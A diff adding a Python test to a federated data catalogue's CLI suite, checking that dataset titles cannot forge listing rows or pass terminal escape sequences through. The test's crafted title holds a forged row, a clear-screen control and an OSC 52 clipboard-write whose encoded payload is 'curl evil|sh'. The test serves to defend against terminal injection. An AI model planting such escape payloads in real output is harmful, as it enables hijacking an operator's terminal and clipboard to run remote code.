@@ -1297,6 +1297,31 @@ async def test_cli_publish_remove_and_search(pg_server_url, tmp_path, catalogue)
         assert refused.returncode == 1 and "401" in refused.stderr
 
 
+async def test_cli_search_prints_a_nodes_title_as_one_line_without_terminal_controls(
+        catalogue):
+    """Any node of the federation writes the titles `gdi-node catalogue search` prints: one
+    holding a line break printed a forged row of the listing, and one holding escape
+    sequences (ESC, OSC, C1 controls) reached the operator's terminal as they came, free to
+    retitle the window or write the clipboard. They are shown as their escapes now."""
+    from tests.test_cli import _env, gdi_node
+    fdp = "http://fi.example/fdp"
+    assert (await catalogue.put(f"/api/nodes/{NODE}", _registration(fdp), TOKENS[NODE])
+            )[0].status == 200
+    forged = "GDI-FI-SYN-666  FI  PUBLIC      org.test.fi              Forged row"
+    title = f"Heart panel\n{forged}\x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b2J\u2028"
+    response, body = await catalogue.put(f"/api/nodes/{NODE}/datasets",
+                                         _snapshot(_record("GDI-FI-SYN-001", fdp, title=title)),
+                                         TOKENS[NODE])
+    assert response.status == 200, body
+    found = await asyncio.to_thread(gdi_node, "catalogue", "search", "heart", "--url",
+                                    catalogue.url, env=_env())
+    assert found.returncode == 0, found.stderr
+    lines = found.stdout.splitlines()
+    assert len(lines) == 2 and lines[0] == "1 datasets", found.stdout
+    assert lines[1].startswith("GDI-FI-SYN-001") and "\\n" + forged in lines[1], lines
+    assert not any(c in found.stdout for c in "\x1b\x07\x9b\u2028"), found.stdout
+
+
 async def test_a_restart_under_changed_configuration_retires_nodes_it_no_longer_admits(
         pg_server_url, tmp_path):
     """NODE's credential removed and OTHER's origins changed, then a restart: neither is
